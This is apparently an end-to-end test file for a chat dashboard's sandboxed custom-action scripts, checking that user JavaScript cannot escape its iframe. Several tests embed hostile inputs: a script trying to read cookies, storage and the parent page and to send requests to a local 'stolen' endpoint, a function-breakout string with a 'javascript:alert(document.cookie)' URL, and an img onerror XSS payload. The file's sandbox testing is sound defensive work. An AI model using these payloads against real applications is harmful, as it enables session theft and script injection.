import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { memberSession } from '../support/session.ts'
import { inDashboard } from './stage.ts'

// CA5: the browser runs the script of an action; here in a frame apart, which is attacked (docs/adr/0057).

inDashboard('scripts of custom actions', {}, ({ page, row, bubble, field, parley, shop }) => {
  const reached: string[] = []
  const outside = createServer((req, res) => {
    reached.push(`${req.method} ${req.url}`)
    res.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' })
    res.end('self.stolen = 1')
  })
  let elsewhere: string
  beforeAll(async () => {
    await new Promise<void>((resolve) => outside.listen(0, '127.0.0.1', resolve))
    elsewhere = `http://127.0.0.1:${(outside.address() as AddressInfo).port}`
  })
  afterAll(() => void outside.close())

  let made = 0
  /** Makes an action of this code and chooses it in the menu of the chat. */
  const use = async (code: string) => {
    made += 1
    const name = `Script ${made}`
    const { api } = await memberSession(parley, shop.workspaceId)
    const answer = await api.post('/custom-actions', { name, action_type: 'javascript', config: { code } })
    expect(answer.status).toBe(200)
    await page.goto(`${parley.url}/inbox`)
    await row('Ada Lovelace').click()
    await bubble('oak desk').waitFor()
    await page.getByRole('button', { name: 'More to do with it' }).click()
    await page.getByRole('option', { name, exact: true }).click()
    return name
  }
  const toasts = () => page.getByRole('region', { name: 'What was just done' })
  const told = (text: string | RegExp) => toasts().getByText(text)

  test('it gets the contact, the person and the workspace, and its words are shown', async () => {
    await use(
      'return [contact.name, contact.phone_number, context.user.role, organization.name.length > 0].join(" ")',
    )
    await told('Ada Lovelace 15550100021 admin true').waitFor()
    await expect.poll(() => page.locator('iframe').count()).toBe(0)
  })

  test('an address opens and a text is copied when the person presses the button', async () => {
    await use(`return { message: 'Their page', url: '${elsewhere}/customers/' + contact.phone_number }`)
    await told('Their page').waitFor()
    expect(reached).toEqual([])
    const opened = page.context().waitForEvent('page')
    await toasts().getByRole('button', { name: 'Open', exact: true }).click()
    const tab = await opened
    await tab.waitForURL(`${elsewhere}/customers/15550100021`)
    expect(await tab.evaluate(() => window.opener)).toBe(null)
    await tab.close()
    await page.context().grantPermissions(['clipboard-read', 'clipboard-write'])
    await use('return { toast: { message: "A text" }, clipboard: "of " + contact.name }')
    await told('A text').waitFor()
    await toasts().getByRole('button', { name: 'Copy', exact: true }).click()
    await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toBe('of Ada Lovelace')
  })

  test('it sees no session and no page, and reaches nobody', async () => {
    reached.length = 0
    const answered: string[] = []
    page.on('response', (one) => {
      if (/stolen/.test(one.url())) answered.push(one.url())
    })
    await use(`
      const came = []
      const attempt = async (name, deed) => {
        try {
          const value = await Promise.race([deed(), new Promise((_, no) => setTimeout(no, 700))])
          if (value !== undefined) came.push(name)
        } catch {}
      }
      const ours = '${parley.url}', theirs = '${elsewhere}'
      const socket = (address) => new Promise((yes, no) => {
        const one = new WebSocket(address)
        one.onopen = () => yes(1)
        one.onerror = no
      })
      await Promise.all([
        attempt('cookie', () => document.cookie),
        attempt('parent', () => parent.document),
        attempt('top', () => top.location.href),
        attempt('window', () => window),
        attempt('storage', () => localStorage),
        attempt('database', () => new Promise((yes, no) => {
          const one = indexedDB.open('x'); one.onsuccess = () => yes(1); one.onerror = no
        })),
        attempt('caches', () => caches.keys()),
        attempt('api', () => fetch(ours + '/api/me?stolen', { credentials: 'include' })),
        attempt('fetch', () => fetch(theirs + '/stolen', { mode: 'no-cors' })),
        attempt('xhr', () => { const one = new XMLHttpRequest(); one.open('GET', theirs + '/stolen', false); one.send(); return 1 }),
        attempt('socket', () => socket(theirs.replace('http', 'ws') + '/stolen')),
        attempt('events', () => new Promise((yes, no) => { const one = new EventSource(theirs + '/stolen'); one.onopen = () => yes(1); one.onerror = no })),
        attempt('importScripts', () => { importScripts(theirs + '/stolen.js'); return 1 }),
        attempt('importData', () => { importScripts('data:text/javascript,1'); return 1 }),
        attempt('import', () => import(theirs + '/stolen.js')),
        attempt('eval', () => (0, eval)('1')),
        attempt('worker', () => new Promise((yes, no) => {
          const one = new Worker('data:text/javascript,postMessage(1)'); one.onmessage = () => yes(1); one.onerror = no
        })),
        attempt('origin', () => (self.origin === 'null' ? undefined : self.origin)),
      ])
      return 'Came: ' + came.join()
    `)
    await told(/^Came:/).waitFor()
    expect(await told(/^Came:/).textContent()).toBe('Came: ')
    expect([reached, answered]).toEqual([[], []])
  })

  test('what breaks out of its function says no more than it could return', async () => {
    const name = await use(
      `}; postMessage({ value: { url: 'javascript:alert(document.cookie)' } }); const other = async () => {`,
    )
    await told(`${name} is complete.`).waitFor()
    expect(await toasts().getByRole('button', { name: 'Open', exact: true }).count()).toBe(0)
    await use(`for (;;) postMessage({ value: 'Flood' })`)
    await told('Flood').waitFor()
    const html = await use(`return '<img src=x onerror="document.title=1">'`)
    await told('<img src=x').waitFor()
    expect(await page.title()).not.toBe('1')
    expect(html).toBe(`Script ${made}`)
  })

  test('a fault is told, of its syntax too', async () => {
    await use('throw new Error("No such order")')
    await told('failed: Error: No such order').waitFor()
    await use('return (')
    await told(/failed: .*SyntaxError/).waitFor()
    await use('return { message: () => 1 }')
    await told(/failed: DataCloneError/).waitFor()
  })

  test('a loop without an end does not hold the page, and is ended', async () => {
    const name = await use('for (;;);')
    await page.locator('iframe').waitFor({ state: 'attached' })
    const began = Date.now()
    await field().fill('The page goes on')
    expect(await field().inputValue()).toBe('The page goes on')
    expect(Date.now() - began).toBeLessThan(2_000)
    await told(`${name} took too long and was ended.`).waitFor()
    await expect.poll(() => page.locator('iframe').count()).toBe(0)
    await field().fill('')
  })
})
